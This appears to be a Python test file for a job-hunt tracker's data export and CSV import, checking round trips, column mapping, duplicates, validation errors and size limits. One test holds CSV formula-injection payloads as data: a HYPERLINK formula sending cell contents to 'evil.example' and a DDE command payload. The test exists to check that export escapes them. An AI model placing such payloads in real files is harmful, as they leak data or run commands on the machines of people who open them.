"""The person's data out (GET /api/export, JSON and CSV) and in (POST /api/import, CSV), on both stores."""

from __future__ import annotations

import csv
import io
import json
from typing import Any

import pytest
from chalice.test import Client

from chalicelib import models, transfer
from local_google.issuer import GoogleIssuer
from tests.conftest import ALLOWED, RICH_APPLICATION, body, sign_in
from tests.test_applications import Api, api_for, create


class Person:
    def __init__(self, client: Client, issuer: GoogleIssuer, sub: str) -> None:
        self.client = client
        self.token = body(sign_in(client, issuer.id_token(sub=sub)))["access_token"]
        self.api: Api = api_for(client, self.token)

    def upload(self, text: str | bytes, query: str = "", content_type: str = "text/csv; charset=utf-8") -> Any:
        raw = text.encode() if isinstance(text, str) else text
        return self.client.http.post(
            "/api/import" + query,
            headers={"Authorization": f"Bearer {self.token}", "Origin": ALLOWED, "Content-Type": content_type},
            body=raw,
        )

    def imported(self, text: str | bytes, query: str = "") -> dict[str, Any]:
        response = self.upload(text, query)
        assert response.status_code == 200, response.body
        return body(response)  # type: ignore[no-any-return]

    def applications(self) -> list[dict[str, Any]]:
        response = self.api("GET", "/api/applications?limit=100")
        assert response.status_code == 200
        return body(response)["items"]  # type: ignore[no-any-return]


@pytest.fixture
def person(both_stores: Client, issuer: GoogleIssuer) -> Person:
    return Person(both_stores, issuer, "1000000000001")


@pytest.fixture
def other(both_stores: Client, issuer: GoogleIssuer) -> Person:
    return Person(both_stores, issuer, "1000000000002")


# ---- out ------------------------------------------------------------------------------------------


def test_json_export_has_everything_as_an_attachment(person: Person) -> None:
    app = create(person.api, **RICH_APPLICATION, contacts=[{"name": "Sam", "email": "sam@acme.example"}])
    person.api("PATCH", f"/api/applications/{app['id']}", {"status": "screening"})
    interview = person.api(
        "POST", f"/api/applications/{app['id']}/interviews", {"kind": "technical", "starts_at": "2026-12-03T14:00:00Z"}
    )
    assert interview.status_code == 201
    person.api("PATCH", "/api/user", {"timezone": "Europe/Berlin"})
    response = person.api("GET", "/api/export")
    assert response.status_code == 200
    assert response.headers["Content-Type"] == "application/json"
    assert response.headers["Content-Disposition"].startswith('attachment; filename="job-hunt-export-')
    data = body(response)
    assert data["format"] == "job-hunt-tracker-export" and data["version"] == 1
    assert data["profile"]["id"] and data["settings"] == {"timezone": "Europe/Berlin"}
    [exported] = data["applications"]
    assert exported == body(person.api("GET", f"/api/applications/{app['id']}"))
    assert [c["status"] for c in exported["status_history"]] == ["applied", "screening"]
    assert exported["contacts"] == [{"name": "Sam", "email": "sam@acme.example", "role": None, "phone": None,
                                     "linkedin_url": None, "notes": None}]  # fmt: skip
    assert [i["id"] for i in data["interviews"]] == [body(interview)["id"]]


def test_export_is_the_person_own_data_only(person: Person, other: Person) -> None:
    create(person.api, company="Mine")
    create(other.api, company="Theirs")
    assert [a["company"] for a in body(person.api("GET", "/api/export"))["applications"]] == ["Mine"]
    rows = list(csv.DictReader(io.StringIO(person.api("GET", "/api/export?format=csv").body.decode())))
    assert [r["company"] for r in rows] == ["Mine"]


def test_csv_export_has_the_documented_columns_and_a_readable_history(person: Person) -> None:
    app = create(person.api, **RICH_APPLICATION, contacts=[{"name": "Sam", "email": "sam@acme.example"}])
    person.api("PATCH", f"/api/applications/{app['id']}", {"status": "interviewing"})
    response = person.api("GET", "/api/export?format=csv")
    assert response.status_code == 200
    assert response.headers["Content-Type"] == "text/csv; charset=utf-8"
    assert response.headers["Content-Disposition"].startswith('attachment; filename="job-hunt-applications-')
    reader = csv.DictReader(io.StringIO(response.body.decode()))
    assert tuple(reader.fieldnames or ()) == transfer.CSV_COLUMNS
    [row] = list(reader)
    assert (row["company"], row["status"], row["tags"], row["salary_min"]) == (
        "Acme",
        "interviewing",
        "python; fintech",
        "70000",
    )
    assert row["contacts"] == "Sam <sam@acme.example>"
    assert row["status_history"].startswith("applied (") and " -> interviewing (" in row["status_history"]


def test_export_format_must_be_json_or_csv(person: Person) -> None:
    response = person.api("GET", "/api/export?format=xml")
    assert response.status_code == 400 and body(response)["field"] == "format"
    response = person.api("GET", "/api/export?fmt=csv")
    assert response.status_code == 400 and body(response)["field"] == "fmt"


def test_the_field_lists_agree() -> None:
    # The CSV export is an application as the API returns it, less its version.
    assert set(transfer.CSV_COLUMNS) == set(models.OUTPUT_ORDER) - {"version"}
    # The import reads back every column but what the server keeps (id and times are the new account's) ...
    assert set(transfer.CSV_COLUMNS) - set(transfer.IMPORT_COLUMNS) == {"id", "created_at", "updated_at"}
    # ... that is, every field a person fills in, and the status history.
    assert set(transfer.IMPORT_COLUMNS) == set(models.ApplicationData.model_fields) | {"status_history"}
    # Each field is read first from its own export column's name.
    assert all(aliases[0] == name.replace("_", " ") for name, aliases in transfer.IMPORT_COLUMNS.items())


# ---- round trip -------------------------------------------------------------------------------------


def test_export_then_import_into_a_new_account_reproduces_the_applications(person: Person, other: Person) -> None:
    create(person.api, **RICH_APPLICATION, contacts=[{"name": "Sam", "email": "sam@acme.example"}])
    second = create(person.api, company='Beta; Inc, "quoted"', role="Data\nEngineer", notes="line one\nline two")
    person.api("PATCH", f"/api/applications/{second['id']}", {"status": "rejected"})
    create(person.api, company="Gamma", role="SRE", status="wishlist")
    exported = person.api("GET", "/api/export?format=csv").body
    assert other.imported(exported)["created"] == 3
    kept = tuple(transfer.IMPORT_COLUMNS)  # every column the import reads back (test_the_field_lists_agree)

    def comparable(apps: list[dict[str, Any]]) -> list[dict[str, Any]]:
        out = []
        for app in sorted(apps, key=lambda a: a["company"]):
            item = {k: app[k] for k in kept}
            item["contacts"] = [(c["name"], c["email"]) for c in app["contacts"]]
            out.append(item)
        return out

    assert comparable(other.applications()) == comparable(person.applications())
    again = other.imported(exported)
    assert (again["created"], again["duplicates"], again["errors"]) == (0, 3, [])


def test_csv_export_writes_formulas_as_text_and_the_import_reads_them_back(person: Person, other: Person) -> None:
    formula = '=HYPERLINK("https://evil.example/?"&A1,"x")'
    create(person.api, company=formula, role="+cmd|' /C calc'!A0", notes="@SUM(1+1)", tags=["-2+3"])
    exported = person.api("GET", "/api/export?format=csv")
    assert exported.status_code == 200
    [row] = list(csv.DictReader(io.StringIO(exported.body.decode())))
    assert row["company"] == "'" + formula
    assert (row["role"], row["notes"], row["tags"]) == ("'+cmd|' /C calc'!A0", "'@SUM(1+1)", "'-2+3")
    assert other.imported(exported.body)["created"] == 1
    [app] = other.applications()
    assert (app["company"], app["role"], app["notes"], app["tags"]) == (
        formula,
        "+cmd|' /C calc'!A0",
        "@SUM(1+1)",
        ["-2+3"],
    )


# ---- in: messy files from other tools ------------------------------------------------------------------


def test_spreadsheet_columns_statuses_and_dates_are_understood(person: Person) -> None:
    text = (
        "\ufeffCompany Name;Job Title;Stage;Date Applied;Job URL;Salary;Notes;Extra\r\n"
        "Acme;Backend Engineer;Phone Screen;2026-11-02;https://jobs.acme.example/1;€65,000;hello;x\r\n"
        'Beta;Frontend Dev;no response;25/10/2026;;;"multi\nline";y\r\n'
        "Gamma;SRE;;;;;;\r\n"
        "\r\n"
    )
    result = person.imported(text.encode())
    assert (result["created"], result["duplicates"], result["errors"]) == (3, 0, [])
    assert result["ignored_columns"] == ["Extra"]
    apps = {a["company"]: a for a in person.applications()}
    assert apps["Acme"]["status"] == "screening" and apps["Acme"]["applied_on"] == "2026-11-02"
    assert (apps["Acme"]["salary_min"], apps["Acme"]["currency"]) == (65000, "EUR")
    assert apps["Acme"]["url"] == "https://jobs.acme.example/1"
    assert apps["Beta"]["status"] == "ghosted" and apps["Beta"]["applied_on"] == "2026-10-25"
    assert apps["Beta"]["notes"] == "multi\nline"
    assert apps["Gamma"]["status"] == "wishlist"  # no status and no date applied: not applied yet


def test_other_trackers_names_position_link_and_comma_separated(person: Person) -> None:
    text = 'Position,Company,Status,Link,Tags\nEngineer,Delta,Offer Received,https://delta.example/j,"a, b"\n'
    assert person.imported(text)["created"] == 1
    [app] = person.applications()
    assert (app["company"], app["role"], app["status"], app["tags"]) == ("Delta", "Engineer", "offer", ["a", "b"])


def test_invalid_rows_are_reported_by_line_and_column_and_valid_rows_imported(person: Person) -> None:
    text = (
        "Company,Role,Status,Applied On,Job URL\n"
        "Acme,Engineer,applied,2026-11-02,https://acme.example/1\n"
        "Beta,Engineer,pending-ish,2026-11-02,\n"
        ",Engineer,applied,,\n"
        "Gamma,Engineer,applied,2026-13-45,ftp://nope\n"
        "Delta,Engineer,applied,03/04/2026,\n"
    )
    result = person.imported(text)
    assert result["created"] == 1
    found = {(e["row"], e["field"]) for e in result["errors"]}
    assert found == {(3, "Status"), (4, "Company"), (5, "Applied On"), (5, "Job URL"), (6, "Applied On")}
    assert result["errors_total"] == 5
    assert "YYYY-MM-DD" in next(e["message"] for e in result["errors"] if e["row"] == 6)
    assert [a["company"] for a in person.applications()] == ["Acme"]


def test_duplicates_are_counted_not_imported(person: Person) -> None:
    create(person.api, company="Acme", role="Engineer", applied_on="2026-11-02")
    text = (
        "company,role,applied_on\n"
        "ACME , engineer,2026-11-02\n"  # the stored one, in other case and spacing
        "Acme,Engineer,2026-11-09\n"  # applied again later: a new application
        "Acme,Engineer,2026-11-09\n"  # the row before, again
    )
    result = person.imported(text)
    assert (result["created"], result["duplicates"]) == (1, 2)
    assert person.imported(text)["created"] == 0
    assert len(person.applications()) == 2


def test_dry_run_validates_and_counts_but_stores_nothing(person: Person) -> None:
    text = "company,role\nAcme,Engineer\nBeta,\n"
    result = person.imported(text, "?dry_run=true")
    assert (result["created"], result["dry_run"], len(result["errors"])) == (1, True, 1)
    assert person.applications() == []
    assert person.imported(text, "?dry_run=false")["created"] == 1
    assert len(person.applications()) == 1


def test_files_that_cannot_be_imported_get_a_4xx_naming_why(person: Person) -> None:
    no_role = person.upload("Company,Status\nAcme,applied\n")
    assert no_role.status_code == 400 and body(no_role)["field"] == "role"
    latin1 = person.upload("company,role\nCaf\xe9,Chef\n".encode("latin-1"))
    assert latin1.status_code == 400 and "UTF-8" in body(latin1)["message"]
    empty = person.upload(b"")
    assert empty.status_code == 400 and body(empty)["field"] == "body"
    as_json = person.upload(json.dumps({"company": "Acme"}), content_type="application/json")
    assert as_json.status_code == 415 and body(as_json)["field"] == "Content-Type"
    bad_flag = person.upload("company,role\nA,B\n", "?dry_run=maybe")
    assert bad_flag.status_code == 400 and body(bad_flag)["field"] == "dry_run"
    anonymous = person.client.http.post("/api/import", headers={"Content-Type": "text/csv"}, body=b"company,role\n")
    assert anonymous.status_code == 401


def test_a_malformed_record_refuses_the_whole_file_and_stores_nothing(person: Person) -> None:
    huge = "x" * (140 * 1024)  # past csv.field_size_limit (128 KB)
    response = person.upload(f"company,role,notes\nA,Engineer,\nB,Engineer,{huge}\nE,Engineer,\n")
    assert response.status_code == 400
    assert body(response)["field"] == "body" and "Line 3 is not valid CSV" in body(response)["message"]
    assert person.applications() == []


def test_a_header_past_200_columns_is_refused_and_ignored_columns_are_listed_once(person: Person) -> None:
    wide = person.upload("company,role," + ",".join(["a"] * 199) + "\nAcme,Engineer\n")
    assert wide.status_code == 400
    assert body(wide)["field"] == "body" and "limit of 200" in body(wide)["message"]
    assert person.applications() == []
    at_limit = person.imported("company,role," + ",".join(["a", "B", "a"] * 66) + "\nAcme,Engineer\n")
    assert (at_limit["created"], at_limit["ignored_columns"]) == (1, ["a", "B"])


def test_limits_5000_rows_and_5_mb_answer_413_naming_the_limit(person: Person) -> None:
    rows = "".join(f"Company {n},Role\n" for n in range(transfer.MAX_ROWS + 1))
    too_many = person.upload("company,role\n" + rows)
    assert too_many.status_code == 413 and "5,000 rows" in body(too_many)["message"]
    too_big = person.upload("company,role,notes\n" + "Acme,Engineer," + "x" * (5 * 1024 * 1024) + "\n")
    assert too_big.status_code == 413 and "5 MB" in body(too_big)["message"]
    assert person.applications() == []
    at_limit = person.upload("company,role\n" + rows.split("\n", 1)[1], "?dry_run=true")
    assert at_limit.status_code == 200 and body(at_limit)["created"] == transfer.MAX_ROWS
